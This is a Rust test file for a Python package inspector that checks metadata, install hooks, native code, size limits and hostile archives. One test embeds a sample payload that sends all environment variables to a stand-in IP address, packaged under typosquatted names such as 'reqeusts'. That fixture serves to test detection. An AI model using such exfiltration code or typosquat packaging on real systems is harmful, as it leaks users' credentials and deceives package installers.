//! The inspector against archives built by real tools (`tests/fixtures/dists`, see its README) and
//! against every hostile archive of `picket-testkit`.

use std::path::{Path, PathBuf};
use std::time::Instant;

use picket_inspect::{DistKind, InspectError, Inventory, Limits, inspect_bytes, inspect_path};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/dists")
        .join(name)
}

fn inspect_fixture(name: &str) -> Inventory {
    inspect_path(&fixture(name), &Limits::default()).unwrap_or_else(|e| panic!("{name}: {e}"))
}

#[test]
fn pure_python_wheel_with_console_scripts() {
    let inv = inspect_fixture("demo_tool-1.0.0-py3-none-any.whl");
    assert_eq!(inv.kind, DistKind::Wheel);
    assert_eq!(inv.name.as_deref(), Some("demo-tool"));
    assert_eq!(inv.version.as_deref(), Some("1.0.0"));
    let meta = inv.metadata.as_ref().unwrap();
    assert_eq!(meta.requires_dist[0], "click>=8");
    assert_eq!(meta.license_expression.as_deref(), Some("MIT"));
    assert_eq!(
        inv.console_scripts().collect::<Vec<_>>(),
        ["demo-admin", "demo-tool"]
    );
    assert_eq!(inv.measures.python_files, 2);
    assert!(inv.measures.substantive_lines >= 10, "{:?}", inv.measures);
    assert!(inv.measures.native_binaries.is_empty());
    assert!(!inv.emptiness.empty, "{}", inv.emptiness.reason);
    let paths: Vec<&str> = inv.entries.iter().map(|e| e.path.as_str()).collect();
    assert!(paths.contains(&"demo_tool/cli.py"), "{paths:?}");
}

#[test]
fn sdist_has_pkg_info_entry_points_and_no_setup_py() {
    let inv = inspect_fixture("demo_tool-1.0.0.tar.gz");
    assert_eq!(inv.kind, DistKind::Sdist);
    assert_eq!(
        inv.metadata_path.as_deref(),
        Some("demo_tool-1.0.0/PKG-INFO")
    );
    assert_eq!(inv.name.as_deref(), Some("demo-tool"));
    let mut scripts: Vec<&str> = inv.console_scripts().collect();
    scripts.sort_unstable();
    assert_eq!(scripts, ["demo-admin", "demo-tool"]);
    assert!(
        inv.measures.install_hooks.is_empty(),
        "{:?}",
        inv.measures.install_hooks
    );
    assert!(!inv.emptiness.empty);
}

#[test]
fn c_extension_wheel_carries_a_native_binary() {
    let inv = inspect_fixture("cext_demo-0.1.0-cp311-cp311-linux_x86_64.whl");
    let natives: Vec<(&str, &str)> = inv
        .measures
        .native_binaries
        .iter()
        .map(|n| (n.path.as_str(), n.format))
        .collect();
    assert_eq!(natives.len(), 1, "{natives:?}");
    assert!(natives[0].0.starts_with("cext_demo/_speed"), "{natives:?}");
    assert_eq!(natives[0].1, "ELF");
    assert!(!inv.emptiness.empty, "a native extension is code");
}

#[test]
fn empty_package_is_called_empty_in_both_forms() {
    for name in ["empty_pkg-0.0.1-py3-none-any.whl", "empty_pkg-0.0.1.tar.gz"] {
        let inv = inspect_fixture(name);
        assert!(inv.emptiness.empty, "{name}: {}", inv.emptiness.reason);
        assert_eq!(inv.measures.python_files, 1, "{name}");
        assert!(inv.emptiness.reason.starts_with("no code"), "{name}");
    }
}

#[test]
fn legacy_zip_sdist_has_setup_py_as_install_hook() {
    let inv = inspect_fixture("legacy_zip-0.3.zip");
    assert_eq!(inv.kind, DistKind::Sdist);
    assert_eq!(inv.name.as_deref(), Some("legacy-zip"));
    assert_eq!(inv.measures.install_hooks, ["legacy_zip-0.3/setup.py"]);
    assert_eq!(inv.console_scripts().collect::<Vec<_>>(), ["legacy-zip"]);
    assert!(!inv.emptiness.empty, "{}", inv.emptiness.reason);
}

#[test]
fn every_hostile_archive_gets_its_own_clear_error_in_bounded_time() {
    for case in picket_testkit::hostile_archives() {
        let start = Instant::now();
        let err = inspect_bytes(case.filename, &case.bytes, &Limits::default())
            .map(|_| ())
            .expect_err(case.case);
        let message = err.to_string();
        assert!(
            message.contains(case.expect),
            "{}: expected `{}` in `{message}`",
            case.case,
            case.expect
        );
        assert!(
            !message.contains('\n'),
            "{}: one line: {message}",
            case.case
        );
        // Generous: a guard against unbounded work, not a benchmark.
        assert!(
            start.elapsed().as_secs() < 20,
            "{} took {:?}",
            case.case,
            start.elapsed()
        );
    }
}

#[test]
fn total_size_limit_stops_an_archive_of_many_honest_files() {
    let chunks: Vec<Vec<u8>> = (0..20).map(|i| picket_testkit::noise(1 << 20, i)).collect();
    let names: Vec<String> = (0..20).map(|i| format!("big/part{i}.bin")).collect();
    let files: Vec<(&str, &[u8])> = names
        .iter()
        .zip(&chunks)
        .map(|(n, c)| (n.as_str(), c.as_slice()))
        .collect();
    let bytes = picket_testkit::wheel("big", "1.0", &files);
    let limits = Limits {
        max_total_uncompressed: 16 << 20,
        ..Limits::default()
    };
    let err = inspect_bytes("big-1.0-py3-none-any.whl", &bytes, &limits).unwrap_err();
    assert!(matches!(err, InspectError::TotalTooLarge { .. }), "{err}");
}

#[test]
fn wrong_extensions_are_refused_up_front() {
    let err = inspect_bytes("x.rar", b"", &Limits::default()).unwrap_err();
    assert!(err.to_string().contains("not a wheel or sdist"));
    let err = inspect_bytes("x-1.0.tar.bz2", b"", &Limits::default()).unwrap_err();
    assert!(err.to_string().contains("not supported"));
}

#[test]
fn decoy_metadata_files_cannot_hide_the_real_entry_points() {
    let decoys: Vec<String> = (0..70)
        .map(|i| format!("pkg{i}/entry_points.txt"))
        .collect();
    let mut files: Vec<(&str, &[u8])> =
        decoys.iter().map(|p| (p.as_str(), &b"[x]\n"[..])).collect();
    files.push(("shadow/__init__.py", b"def main():\n    run()\n"));
    files.push((
        "shadow-1.0.dist-info/entry_points.txt",
        b"[console_scripts]\naws = shadow:main\n",
    ));
    let bytes = picket_testkit::wheel("shadow", "1.0", &files);
    let inv = inspect_bytes("shadow-1.0-py3-none-any.whl", &bytes, &Limits::default()).unwrap();
    assert_eq!(inv.console_scripts().collect::<Vec<_>>(), ["aws"]);
}

#[test]
fn a_flood_of_metadata_files_is_refused_not_truncated() {
    let names: Vec<String> = (0..70)
        .map(|i| format!("flood-1.0/d{i}.egg-info/entry_points.txt"))
        .collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"[x]\n"[..])).collect();
    let bytes = picket_testkit::gzip(&picket_testkit::tar(
        &files
            .iter()
            .map(|(p, d)| picket_testkit::TarEntry::File(p.as_bytes(), d))
            .collect::<Vec<_>>(),
    ));
    let err = inspect_bytes("flood-1.0.tar.gz", &bytes, &Limits::default()).unwrap_err();
    assert!(
        matches!(err, InspectError::TooManyMetadataFiles { limit: 64 }),
        "{err}"
    );
}

#[test]
fn native_sources_make_an_sdist_code_not_empty() {
    let c = b"/* The answer. */\n#include <Python.h>\n\nstatic PyObject *answer(PyObject *self, PyObject *args) {\n    return PyLong_FromLong(42);\n}\n";
    let rust =
        b"//! The answer.\n\n#[no_mangle]\npub extern \"C\" fn answer() -> i32 {\n    42\n}\n";
    let sdist = picket_testkit::sdist(
        "native-src",
        "1.0",
        &[
            ("native_src/__init__.py", b"from ._native import answer\n"),
            ("src/_native.c", c),
            ("src/lib.rs", rust),
            ("Cargo.toml", b"[package]\nname = \"x\"\n"),
        ],
    );
    let inv = inspect_bytes("native_src-1.0.tar.gz", &sdist, &Limits::default()).unwrap();
    assert_eq!(inv.measures.substantive_lines, 0);
    let root = "native_src-1.0";
    assert_eq!(
        inv.measures.native_sources,
        [
            format!("{root}/src/_native.c"),
            format!("{root}/src/lib.rs")
        ]
    );
    // Code lines only: not comments, preprocessor lines, blank lines or lone braces.
    assert_eq!(inv.measures.native_source_lines, 2 + 2);
    assert!(!inv.emptiness.empty);
    assert_eq!(
        inv.emptiness.reason,
        "no Python code, but 4 lines of native source code (C, C++, Rust, Cython or Fortran) in 2 files"
    );

    // Comments alone are no code, and a source file in a wheel is not what runs.
    let hollow = picket_testkit::sdist(
        "hollow-src",
        "1.0",
        &[("src/lib.rs", b"// nothing\n/* here */\n\n")],
    );
    let inv = inspect_bytes("hollow_src-1.0.tar.gz", &hollow, &Limits::default()).unwrap();
    assert!(inv.measures.native_sources.is_empty());
    assert!(inv.emptiness.empty, "{}", inv.emptiness.reason);
    let wheel = picket_testkit::wheel("wheel-src", "1.0", &[("wheel_src/x.c", c)]);
    let inv = inspect_bytes("wheel_src-1.0-py3-none-any.whl", &wheel, &Limits::default()).unwrap();
    assert!(inv.emptiness.empty, "{}", inv.emptiness.reason);
}

/// Issue 19: metadata 2.5 is read; a newer minor version is read with a warning; a newer major
/// version is refused, naming the version.
#[test]
fn issue_19_newer_metadata_versions_warn_or_are_refused() {
    let wheel = |version: &str| {
        let metadata = format!(
            "Metadata-Version: {version}\nName: future\nVersion: 1.0\nImport-Name: future_pkg\n"
        );
        picket_testkit::zip(&[
            ("future_pkg/__init__.py", b"def answer():\n    return 42\n"),
            ("future-1.0.dist-info/METADATA", metadata.as_bytes()),
            (
                "future-1.0.dist-info/WHEEL",
                b"Wheel-Version: 1.0\nTag: py3-none-any\n",
            ),
        ])
    };
    let name = "future-1.0-py3-none-any.whl";
    let inv = inspect_bytes(name, &wheel("2.5"), &Limits::default()).unwrap();
    let meta = inv.metadata.unwrap();
    assert_eq!(meta.import_names, Some(vec!["future_pkg".to_owned()]));
    assert!(meta.warnings.is_empty());

    let inv = inspect_bytes(name, &wheel("2.9"), &Limits::default()).unwrap();
    let warnings = inv.metadata.unwrap().warnings;
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].contains("`2.9` is newer"), "{warnings:?}");

    let err = inspect_bytes(name, &wheel("3.0"), &Limits::default()).unwrap_err();
    assert!(
        err.to_string()
            .contains("future-1.0.dist-info/METADATA: metadata version `3.0` is not supported"),
        "{err}"
    );
}

#[test]
fn the_code_digest_follows_the_code_not_the_name() {
    let payload: &[u8] = b"import os\nimport urllib.request\n\ndef run():\n    data = os.environ.copy()\n    urllib.request.urlopen('http://198.51.100.7/', str(data).encode())\n\nrun()\n";
    let digest = |name: &str, files: &[(&str, &[u8])]| {
        let bytes = picket_testkit::wheel(name, "1.0", files);
        let inv = inspect_bytes(
            &format!("{name}-1.0-py3-none-any.whl"),
            &bytes,
            &Limits::default(),
        )
        .unwrap();
        inv.measures.code_digest
    };
    let a = digest("reqeusts", &[("reqeusts/__init__.py", payload)]);
    assert!(a.is_some());
    // The same code under another name and path, beside an empty `__init__.py`.
    assert_eq!(
        a,
        digest(
            "nunpy",
            &[("nunpy/__init__.py", b""), ("nunpy/core.py", payload)]
        )
    );
    assert_ne!(
        a,
        digest(
            "other",
            &[("other/__init__.py", b"def f():\n    return 1\n")]
        )
    );
    // Nothing that does something: no digest.
    assert_eq!(
        digest("empty", &[("empty/__init__.py", b"\"\"\"doc\"\"\"\n")]),
        None
    );
}
